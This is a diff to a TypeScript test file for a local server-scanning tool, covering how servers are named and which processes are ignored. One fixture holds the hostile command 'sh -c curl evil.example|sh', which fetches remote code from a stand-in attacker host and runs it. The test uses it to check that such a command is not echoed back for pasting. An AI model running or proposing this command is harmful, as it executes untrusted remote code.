@@ -146,7 +146,7 @@ test("of another user's server no command is to be pasted, as that user has writ
   const command = "sh -c curl evil.example|sh";
   const [named] = found(scanOf({ pid: 4, ports: [1000], uid: 5, command }));
   expect(named).toMatchObject({ pid: 4, command, typed: undefined });
-  expect(namingCommand(named!)).toBe("NAME=api <command>");
+  expect(namingCommand(named!)).toBe("localhostess name api 1000");
   const [bad] = found(scanOf({ pid: 4, ports: [1000], uid: 5, command, name: "My Api" }));
   expect(bad).toMatchObject({ fault: { kind: "bad name" }, typed: undefined });
 });
@@ -161,4 +161,14 @@ test("our own programs are not servers of a person: another daemon, with a state
   const options = { ...host, services: [], supervised: [], ownPids: new Set<number>() };
   expect(unusableServers(scan, { ...options, ownFile: "/opt/main.ts" })).toEqual([]);
   expect(unusableServers(scan, { ...options, ownFile: "/opt/other.ts" })).toHaveLength(1);
+});
+
+test("editors' helpers, browsers and language servers are none, and forwards by ssh are", () => {
+  const scan = scanOf(
+    { pid: 7, ports: [3000], command: "/usr/share/code/code --type=utility" },
+    { pid: 8, ports: [9333], command: "/usr/lib/chromium/chromium --remote-debugging-port=9333" },
+    { pid: 9, ports: [4000], command: "gopls serve -listen=:4000" },
+    { pid: 10, ports: [5000], command: "ssh -N -L 5000:localhost:80 box" },
+  );
+  expect(found(scan).map(({ pid }) => pid)).toEqual([10]);
 });
